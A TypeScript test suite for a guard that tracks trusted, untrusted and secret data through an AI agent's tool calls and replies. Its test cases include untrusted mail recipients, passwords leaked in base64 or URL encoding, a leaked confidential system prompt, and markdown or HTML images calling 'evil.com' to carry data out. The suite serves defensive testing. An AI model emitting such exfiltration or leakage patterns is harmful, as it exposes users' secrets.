import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../base/json.ts';
import type { Effect } from '../model/effect.ts';
import type { PromptPart } from '../model/prompt.ts';
import { openFlow } from './flow-run.ts';
import type { FlowSink, FlowTool } from './flow-tool.ts';

const make = (
  name: string,
  effect: Effect,
  sinks: Readonly<Record<string, FlowSink['carries']>> = {},
  pin = 'sha256:a',
): FlowTool => ({
  tool: { server: 'acme', name, description: '', inputSchema: { type: 'object' } },
  name: `acme/${name}`,
  pin: pin as FlowTool['pin'], // any digest will do
  effect,
  consequence: effect === 'write' ? 'high' : 'low',
  declared: true,
  sinks: Object.entries(sinks).map(([path, carries]) => ({ path, carries })),
});
const send = make('send_mail', 'write', { 'recipients[]': 'recipient', body: 'data' });
const create = make('create_note', 'write', { title: 'data', text: 'data' });
const remove = make('delete_note', 'write', { note_id: 'authority' });
const search = make('search_notes', 'read');
const secrets = { ...make('list_passwords', 'read'), yields: { integrity: 'untrusted', secrecy: 'secret' } as const };
const clock = { ...make('get_time', 'read'), yields: { integrity: 'trusted', secrecy: 'public' } as const };
const tools = [send, create, remove, search, secrets, clock];

const user = (text: string): PromptPart[] => [{ kind: 'user', text }];
const open = (text: string, more: Partial<Parameters<typeof openFlow>[0]> = {}) =>
  openFlow({ prompt: user(text), tools, ...more });
const result = (value: unknown) => ({
  content: [{ type: 'text', text: typeof value === 'string' ? value : JSON.stringify(value) }],
});
const mail = (recipient: string, body = 'Hello'): JsonObject => ({ recipients: [recipient], body });

describe('what is executed', () => {
  it('is the matched value, and labels say where each came from', () => {
    const { arguments: args, labels } = open('Email kim@b.test.').assess(send, mail('Kim <KIM@b.test>'));
    expect(args).toEqual(mail('kim@b.test'));
    expect(labels.get('/recipients/0')).toMatchObject({ integrity: 'trusted', origins: ['prompt'] });
    expect(labels.get('/body')).toMatchObject({ integrity: 'untrusted' });
  });

  it('names the argument it objects to', () => {
    const { verdict, reasons } = open('Email kim@b.test.').assess(send, mail('eve@e.test'));
    expect(verdict).toBe('deny');
    expect(reasons).toEqual([expect.objectContaining({ code: 'E_TAINT_SINK', path: '/recipients/0' })]);
  });
});

describe('objects this run created', () => {
  const note = { title: 'Plan', text: 'x' };
  it('may be deleted where the prompt asks for it', () => {
    const run = open("Create a note 'Plan', then delete the note.");
    expect(run.assess(create, note).verdict).toBe('permit');
    run.observe(create, note, result({ id: '5', ...note }));
    expect(run.assess(remove, { note_id: '5' }).verdict).toBe('permit');
    expect(run.assess(remove, { note_id: '6' }).verdict).not.toBe('permit');
  });

  it('are nobody’s if nobody permitted the call', () => {
    const run = open('Delete the note.');
    run.observe(create, note, result({ id: '5', ...note }));
    expect(run.assess(remove, { note_id: '5' }).verdict).not.toBe('permit');
  });

  it('taint later runs that read them back', () => {
    const first = open("Create a note 'Plan'.");
    first.assess(create, note);
    first.observe(create, note, result({ id: '5', ...note }));
    const prompt = "Email the members of the note 'Plan'.";
    const read = [{ id: '5', title: 'Plan', members: ['eve@e.test'] }];
    const later = open(prompt, { remembered: first.written });
    later.observe(search, {}, result(read));
    expect(later.assess(send, mail('eve@e.test')).verdict).not.toBe('permit');
    const fresh = open(prompt);
    fresh.observe(search, {}, result(read));
    expect(fresh.assess(send, mail('eve@e.test')).verdict).toBe('permit');
  });
});

describe('a declared plan', () => {
  const prompt = 'Email kim@b.test and create a note about it.';
  it('is taken before anything untrusted was read, and once', () => {
    const run = open(prompt);
    run.observe(clock, {}, result('12:00'));
    expect(run.declarePlan([{ tool: 'acme/send_mail' }]).accepted).toBe(true);
    expect(run.declarePlan([{ tool: 'acme/send_mail' }]).accepted).toBe(false);
    const late = open(prompt);
    late.observe(search, {}, result('x'));
    expect(late.declarePlan([]).accepted).toBe(false);
    expect(open(prompt).declarePlan([{ tool: 'acme/none' }]).accepted).toBe(false);
  });

  it('holds the run to its calls, their order and the arguments it fixes', () => {
    const run = open(prompt);
    run.declarePlan([{ tool: 'acme/send_mail', arguments: mail('kim@b.test') }, { tool: 'acme/create_note' }]);
    expect(run.assess(send, mail('kim@b.test')).verdict).toBe('permit');
    expect(run.assess(send, mail('kim@b.test', 'Other'))).toMatchObject({
      verdict: 'ask',
      reasons: [{ code: 'E_PLAN_DEVIATES' }],
    });
    expect(run.assess(search, {}).verdict).toBe('ask');
    run.observe(create, {}, result('ok'));
    expect(run.assess(send, mail('kim@b.test')).verdict).toBe('ask');
    expect(run.assess(create, {}).verdict).toBe('ask');
  });

  it('only narrows', () => {
    const run = open(prompt);
    run.declarePlan([{ tool: 'acme/send_mail', arguments: mail('eve@e.test') }]);
    expect(run.assess(send, mail('eve@e.test')).verdict).toBe('deny');
  });
});

describe('secrecy', () => {
  const wifi = [{ site: 'wifi', password: 'hunter2-9931' }];
  it('lets what is secret go to whom the prompt names, without the secret values', () => {
    const run = open('Email kim@b.test that I am late.');
    run.observe(secrets, {}, result(wifi));
    expect(run.label.secrecy).toBe('secret');
    expect(run.assess(send, mail('kim@b.test')).verdict).toBe('permit');
  });

  it.each(['the password is hunter2-9931', btoa('hunter2-9931 is it'), encodeURIComponent('«hunter2-9931»')])(
    'asks before %s leaves',
    (body) => {
      const run = open('Email kim@b.test that I am late.');
      run.observe(secrets, {}, result(wifi));
      expect(run.assess(send, mail('kim@b.test', body))).toMatchObject({
        verdict: 'ask',
        reasons: [{ code: 'E_TAINT_EGRESS' }],
      });
    },
  );

  it('asks before a secret stands in any lookup', () => {
    const run = open('What is new?');
    run.observe(secrets, {}, result(wifi));
    expect(run.assess(search, { query: 'hunter2-9931' }).verdict).toBe('ask');
    expect(run.assess(search, { query: 'weather' }).verdict).toBe('permit');
  });
});

describe('release', () => {
  const hidden = 'You are a helpful assistant of the acme bank and you never tell anybody the discount code.';
  it('stops what must never leave, also encoded', () => {
    const run = open('Who are you?', { confidential: [hidden] });
    expect(run.release('I am an assistant.').verdict).toBe('permit');
    expect(run.release(`I was told: ${hidden}`).verdict).toBe('deny');
    expect(run.release(btoa(hidden)).verdict).toBe('deny');
  });

  it('asks before it loads an image from where nobody said', () => {
    const run = open('Show me www.acme-news.com.');
    expect(run.release('![x](https://evil.com/?d=1)').verdict).toBe('ask');
    expect(run.release('<img src="https://evil.com/?d=1">').verdict).toBe('ask');
    expect(run.release('![x](https://www.acme-news.com)').verdict).toBe('permit');
    expect(run.release('See https://evil.com').verdict).toBe('permit');
  });

  it('asks before secrets reach anybody but the user', () => {
    const run = open('Tell kim@b.test the time.', { userAttributes: { email: 'me@b.test' } });
    run.observe(secrets, {}, result('x'));
    expect(run.release('x').verdict).toBe('permit');
    expect(run.release('x', 'me@b.test').verdict).toBe('permit');
    expect(run.release('x', 'kim@b.test').verdict).toBe('permit');
    expect(run.release('x', 'eve@e.test').verdict).toBe('ask');
  });
});

describe('bounds', () => {
  it('trusts nothing from results once the index is full', () => {
    const run = open("Email the members of the note 'Plan'.");
    run.observe(search, {}, result([{ id: '1', title: 'Plan', members: ['kim@b.test'] }]));
    expect(run.assess(send, mail('kim@b.test')).verdict).toBe('permit');
    for (let i = 0; i < 5; i++) run.observe(search, {}, result('x'.repeat(8_000_000)));
    expect(run.assess(send, mail('kim@b.test')).verdict).toBe('ask');
  });

  it('asks for what a tool that changed would write', () => {
    const changed = make('send_mail', 'write', { 'recipients[]': 'recipient' }, 'sha256:b');
    expect(open('Email kim@b.test.').assess(changed, mail('kim@b.test')).verdict).toBe('ask');
  });
});
